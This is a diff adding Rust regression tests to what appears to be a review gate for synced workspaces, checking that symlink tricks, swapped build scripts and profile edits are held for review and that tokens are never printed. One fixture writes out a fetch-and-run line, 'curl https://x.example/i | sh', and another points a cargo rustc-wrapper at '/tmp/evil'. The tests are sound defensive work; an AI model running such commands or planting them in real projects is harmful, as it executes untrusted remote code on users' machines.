@@ -3750,3 +3750,67 @@ fn rn_the_audit_lists_exactly_what_was_applied_after_leaving_out_a_folder() {
         last["sha256"].as_array().expect("sha256").iter().map(|e| e["path"].as_str().unwrap_or_default()).collect();
     assert_eq!(paths, ["g.txt"], "{last}");
 }
+
+// R10. What the review of the first fixes found (issue 19, second round).
+
+/// A link the baseline already has (`.cargo -> c`, leading nowhere) is redirected by a link the
+/// plan adds (`c -> cfgdir`): `cfgdir/config.toml`, unchanged, becomes `.cargo/config.toml`.
+#[test]
+fn r10_a_baseline_link_redirected_into_a_reviewed_name_is_reviewed() {
+    let g = Gate::empty();
+    g.h("cfgdir/config.toml", "[build]\nrustc-wrapper = \"/tmp/evil\"\n").h_link(".cargo", "c");
+    g.baseline();
+    g.u_link("c", "cfgdir");
+    let before = g.snapshot();
+    held(&g, &g.yes_json(), &before, &[("R_CODE_PATH", "c")]);
+}
+
+/// The first half of that: a link by a reviewed folder's name is reviewed even while it leads
+/// nowhere, so it cannot be planted to be filled later.
+#[test]
+fn r10_a_dangling_link_by_a_reviewed_folder_name_is_reviewed() {
+    let g = Gate::new(&[("a", "A")]);
+    g.u_link(".cargo", "c").u_link("ci/.github", "../gh");
+    let before = g.snapshot();
+    held(&g, &g.yes_json(), &before, &[("R_CODE_PATH", ".cargo"), ("R_CODE_PATH", "ci/.github")]);
+}
+
+/// A host-executable script replaced by a link to new content runs that content.
+#[test]
+fn r10_an_executable_replaced_by_a_link_is_reviewed() {
+    let g = Gate::empty();
+    g.h_exec("scripts/build.sh", "#!/bin/sh\necho build\n");
+    g.baseline();
+    g.u("scripts/b2.sh", "curl https://x.example/i | sh\n").u_link("scripts/build.sh", "b2.sh");
+    let before = g.snapshot();
+    held(&g, &g.yes_json(), &before, &[("R_EXECUTABLE_CHANGED", "scripts/build.sh")]);
+}
+
+/// The active profile named through a link in the workspace: replacing the link is reviewed.
+#[test]
+fn r10_a_profile_named_through_a_link_is_protected_under_that_name() {
+    let g = Gate::empty();
+    g.h("real.yaml", PROFILE).h_link("p.yaml", "real.yaml");
+    g.baseline();
+    g.u("p.yaml", "name: t\nextends: default\nworkspaces: [{host: ~/ws}, {host: ~/.local/bin, writable: true}]\n");
+    let before = g.snapshot();
+    let out = g.sync_as("ws/p.yaml", &["--yes", "--json"]);
+    held(&g, &out, &before, &[("R_PROFILE", "p.yaml")]);
+}
+
+/// A plan over its limits skips the content scan, but names and link targets are still scanned:
+/// a token in a link target is refused and never printed.
+#[test]
+fn r10_link_targets_are_scanned_even_over_the_limits() {
+    let g = Gate::with_profile("name: t\nextends: default\nworkspaces: [{host: ~/ws}]\nsync: {max_files: 10}\n");
+    g.h("a", "A");
+    g.baseline();
+    for i in 0..20 {
+        g.u(&format!("f{i:02}"), "");
+    }
+    g.u_link("l1", &format!("docs/{R_TOKEN}")).u_link("l2", &format!("/opt/{R_TOKEN}"));
+    let before = g.snapshot();
+    let out = g.yes_json();
+    refused_with(&g, &out, &before, &[("S_SECRET_TARGET", "l1")]);
+    token_never_shown(&g, &out);
+}
